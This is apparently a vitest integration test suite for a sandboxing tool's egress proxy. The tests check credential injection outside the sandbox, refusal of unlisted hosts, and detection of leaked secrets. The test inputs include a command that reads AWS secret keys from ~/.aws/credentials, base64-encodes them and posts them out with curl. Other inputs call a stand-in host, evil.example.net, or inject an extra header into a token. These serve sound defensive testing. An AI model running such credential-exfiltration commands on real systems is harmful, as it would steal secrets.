import { spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { homedir, tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { text } from "node:stream/consumers";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { Scope } from "../../src/base/scope.ts";
import { IS_ROOT, WHO } from "../fixtures/local-bottle.ts";
import { openHttpsOrigin, originAuthority, TOKEN } from "../socket/egress/harness.ts";

const MAIN = resolve(import.meta.dirname, "../../dist/main.js");
const HOST = "api.example.test";
const COMMIT = "1234567890123456789012345678901234567890";

const scope = new Scope();
const seen: string[] = [];
let folder: string;

type Ran = { readonly code: number | null; readonly stdout: string; readonly stderr: string };

/** The command line as a person would start it, with the credential in the shell's environment. */
async function bottle(
  argv: readonly string[],
  env: Readonly<Record<string, string>> = { API_TOKEN: TOKEN },
): Promise<Ran> {
  const child = spawn(process.execPath, [MAIN, ...argv], {
    cwd: join(folder, "project"),
    env: {
      PATH: "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
      HOME: folder,
      BOT_BOTTLE_HOME: join(folder, "home"),
      XDG_CACHE_HOME: join(folder, "cache"),
      ...env,
    },
    stdio: ["ignore", "pipe", "pipe"],
  });
  const [stdout, stderr, code] = await Promise.all([
    text(child.stdout),
    text(child.stderr),
    new Promise<number | null>((settle) => child.once("exit", settle)),
  ]);
  return { code, stdout, stderr };
}

const inside = (script: string) => bottle(["start", "--bottle", "net", "--", "sh", "-c", script]);

async function write(files: Readonly<Record<string, string>>): Promise<void> {
  for (const [name, content] of Object.entries(files)) {
    await mkdir(dirname(join(folder, name)), { recursive: true });
    await writeFile(join(folder, name), content);
  }
}

beforeAll(async () => {
  folder = await mkdtemp(join(IS_ROOT ? homedir() : tmpdir(), "bottle-egress-"));
  scope.defer("folder", () => rm(folder, { recursive: true, force: true }));
  const origin = await openHttpsOrigin(scope, HOST, (request, response) => {
    seen.push(`${request.url} ${request.headers.authorization === `Bearer ${TOKEN}`}`);
    if (request.url?.startsWith("/repo.git/")) return response.end(`${COMMIT}\trefs/heads/main\n`);
    return response.end(`hello ${request.headers["user-agent"]?.split("/")[0]}`);
  });
  await write({
    "origin-ca.pem": (await originAuthority()).certificatePem,
    "project/file.txt": "hello\n",
    "home/config.yaml": `extra_ca: ${join(folder, "origin-ca.pem")}\nresolve: {${HOST}: "127.0.0.1:${origin.port}"}\n`,
    "home/bottles/net.md": `---
egress:
  routes:
    - host: ${HOST}
      auth: {scheme: Bearer, token_ref: API_TOKEN}
      git: {fetch: true}
---
`,
    "home/bottles/plain.md": "---\nresources: {pids: 200}\n---\n",
    "home/bottles/two.md": `---
egress:
  routes:
    - {host: ${HOST}, auth: {scheme: Bearer, token_ref: FIRST}}
    - {host: b.example.test, auth: {scheme: Bearer, token_ref: SECOND}}
    - {host: c.example.test, auth: {scheme: token, token_ref: "file:${join(folder, "no-such-file")}"}}
---
`,
    "home/bottles/files.md": `---
egress:
  routes:
    - {host: b.example.test, auth: {scheme: token, token_ref: "file:${join(folder, "missing-one")}"}}
    - {host: c.example.test, auth: {scheme: token, token_ref: "file:${join(folder, "missing-two")}"}}
---
`,
  });
});
afterAll(() => scope.close());

/** Speaks to the proxy as Node's own modules can in every version; what verifies the certificate is Node itself. */
const NODE = `
const [host, port] = process.env.HTTPS_PROXY.replace("http://", "").split(":");
require("node:http").request({ host, port, method: "CONNECT", path: "${HOST}:443", headers: { host: "${HOST}:443" } }).on("connect", (_, socket) => {
  require("node:https").get("https://${HOST}/node", { socket, agent: false, headers: { "user-agent": "node/0" } }, (answer) => {
    answer.on("data", (data) => console.log(answer.statusCode, String(data)));
  });
}).end();`;

/** Node's `fetch` reads the proxy variables since 22.21 and 24; before, it must fail at once and not hang. */
const FETCH = `
const [major, minor] = process.versions.node.split(".").map(Number);
const reads = major >= 24 || (major === 22 && minor >= 21);
fetch("https://evil.example.net/").then(
  async (answer) => console.log(reads ? "as expected" : "unexpected", answer.status, await answer.text()),
  (error) => console.log(reads ? "unexpected" : "as expected", error.cause.code),
);`;

const PYTHON = `
import urllib.request
answer = urllib.request.urlopen("https://${HOST}/python")
print(answer.status, answer.read().decode())`;

/** The class that every Java program has; it knows nothing of bottles. */
const JAVA = `
import java.net.*;
public class Client {
  public static void main(String[] arguments) throws Exception {
    for (String url : new String[] { "https://${HOST}/java", "https://evil.example.net/" }) {
      HttpURLConnection answer = (HttpURLConnection) new URL(url).openConnection();
      int status = answer.getResponseCode();
      var stream = status < 400 ? answer.getInputStream() : answer.getErrorStream();
      System.out.println(status + " " + new String(stream.readAllBytes()));
    }
  }
}`;

describe(`as ${WHO}: a bottle with a route`, () => {
  test.each([
    ["curl", `curl -sS -w ' %{http_code}' https://${HOST}/curl`, "hello curl 200", "/curl"],
    [
      "curl without any variable but the proxy",
      `env -i curl -sS -x http://127.0.0.1:9099 https://${HOST}/bare`,
      "hello curl",
      "/bare",
    ],
    ["node", `node -e '${NODE.replaceAll("'", "")}'`, "200 hello node", "/node"],
    ["python3", `python3 -c '${PYTHON}'`, "200 hello Python-urllib", "/python"],
    [
      "git",
      `git ls-remote https://${HOST}/repo.git`,
      `${COMMIT}\trefs/heads/main`,
      "/repo.git/info/refs?service=git-upload-pack",
    ],
  ])("%s is answered, and the credential is added outside", async (_name, script, answer, path) => {
    seen.length = 0;
    const ran = await inside(`${script}; echo; env`);
    expect(ran.stderr.replace(/^bottle: warning: .*\n/gm, "")).toBe("");
    expect(ran.stdout.split("\n")[0]).toBe(answer);
    expect(ran.stdout).toContain("HTTPS_PROXY=http://127.0.0.1:9099");
    expect(seen).toContain(`${path} true`);
    expect(ran.stdout + ran.stderr).not.toContain(TOKEN);
  });

  test("Java trusts the proxy without being told, and sees why something is refused", async ({ skip }) => {
    if (!existsSync("/usr/bin/java")) {
      if (process.env["CI"] === "true") throw new Error("no /usr/bin/java");
      return skip("no Java: apt-get install default-jre-headless");
    }
    seen.length = 0;
    const ran = await inside(`cat > Client.java <<'END'\n${JAVA}\nEND\njava Client.java`);
    expect(ran.stdout.split("\n")[0], ran.stderr).toBe("200 hello Java");
    expect(ran.stdout.split("\n")[1]).toMatch(/^403 .*"code":"egress\/host-not-allowed"/);
    expect(seen).toEqual(["/java true"]);
    expect(ran.stdout + ran.stderr).not.toContain(TOKEN);
  });

  test("what is refused says why, and what is not proxied does not get out", async () => {
    const ran = await inside(`
      curl -sS https://evil.example.net/; git ls-remote https://evil.example.net/x.git 2>&1;
      curl -sS --noproxy '*' --max-time 5 https://1.1.1.1/ 2>&1; curl -sS http://_egress.local/`);
    expect(ran.stdout).toContain('"code":"egress/host-not-allowed"');
    expect(ran.stdout).toContain("remote: evil.example.net is not allowed");
    expect(ran.stdout).toMatch(/curl: \(7\) .*1\.1\.1\.1/);
    expect(ran.stdout).toContain(`"host":"${HOST}"`);
    expect(ran.stdout).toContain('"credential":"added outside"');
  });

  test("a large body is searched by the program as it is built, on its thread", async () => {
    const send = `curl -sS -w ' %{http_code}\\n' --data-binary @- https://${HOST}/large`;
    const ran = await inside(`
      seq 1 60000 | ${send}
      { seq 1 60000; grep aws_secret ~/.aws/credentials | cut -d= -f2 | tr -d ' ' | base64; } | ${send}`);
    const [passed, refused] = ran.stdout.trim().split("\n");
    expect(passed).toBe("hello curl 200");
    expect(refused).toContain('"code":"egress/canary-in-request"');
  });

  test("Node's fetch says why, or fails at once where it reads no proxy variables", async () => {
    const ran = await inside(`timeout 20 node --no-warnings -e '${FETCH}'; echo "exit code $?"`);
    expect(ran.stdout).toMatch(/^as expected (ENOTFOUND|403 \{.*"code":"egress\/host-not-allowed".*)\s+exit code 0$/m);
  });

  test("its journal has the verdicts, and `bottle logs` shows them", async () => {
    const ran = await bottle([
      ...["start", "--bottle", "net", "--keep", "--label", "seen", "--"],
      ...["sh", "-c", `curl -sS https://${HOST}/one; curl -sS https://evil.example.net/`],
    ]);
    expect(ran.code).toBe(0);
    const logs = await bottle(["logs", "seen"]);
    expect(logs.stdout).toMatch(new RegExp(`egress-request +GET https://${HOST}/one → 200`));
    expect(logs.stdout).toMatch(/egress-refusal +GET https:\/\/evil\.example\.net\/ refused: egress\/host-not-allowed/);
    const state = join(folder, "home/state");
    for (const entry of await readdir(state, { recursive: true, withFileTypes: true })) {
      if (!entry.isFile()) continue;
      expect(await readFile(join(entry.parentPath, entry.name), "latin1")).not.toContain(TOKEN);
    }
  });

  test("the preflight tells the routes as they will be held", async () => {
    const { stdout } = await bottle(["start", "--bottle", "net", "--dry-run", "--", "true"]);
    expect(stdout).toMatch(new RegExp(`network +${HOST} \\[auth:Bearer\\] \\[git fetch\\]`));
    expect(stdout).toContain(`${HOST} is dialled at 127.0.0.1 port`);
    expect(stdout).toContain("upstream TLS also trusts");
    expect(stdout).not.toContain("none at all");
  });
});

describe(`as ${WHO}: what stands against a start`, () => {
  const states = () =>
    readdir(join(folder, "home/state")).then((names) => names.filter((name) => !name.startsWith(".")));

  test("every variable that is missing is told before anything is made", async () => {
    const before = await states().catch(() => []);
    const ran = await bottle(["start", "--bottle", "two", "--", "true"], {});
    expect(ran.code).toBe(2);
    expect(ran.stderr).toContain(
      `the route ${HOST} takes its credential from FIRST, which is not set [secret/missing]`,
    );
    expect(ran.stderr).toContain("the route b.example.test takes its credential from SECOND, which is not set");
    expect(await states().catch(() => [])).toEqual(before);
  });

  test("so is every file, and nothing is left behind", async () => {
    const before = await states().catch(() => []);
    const ran = await bottle(["start", "--bottle", "files", "--", "true"]);
    expect(ran).toMatchObject({ code: 2, stdout: "" });
    expect(ran.stderr).toContain("missing-one");
    expect(ran.stderr).toContain("missing-two");
    expect(await states().catch(() => [])).toEqual(before);
  });

  test("a credential that no header can carry", async () => {
    const ran = await bottle(["start", "--bottle", "net", "--", "true"], { API_TOKEN: `${TOKEN}\nX-Injected: 1` });
    expect(ran.code).toBe(2);
    expect(ran.stderr).toContain("[secret/unusable]");
    expect(ran.stderr).not.toContain(TOKEN);
  });
});

test(`as ${WHO}: a bottle without routes has no link and no settings of one`, async () => {
  const script = "curl -sS http://127.0.0.1:9099/ 2>&1; env | grep -ci proxy; ls -d /etc/bot-bottle 2>&1";
  const ran = await bottle(["start", "--bottle", "plain", "--", "sh", "-c", script]);
  expect(ran.stdout).toMatch(/curl: \(7\)/);
  expect(ran.stdout).toMatch(/^0$/m);
  expect(ran.stdout).toMatch(/No such file/);
});
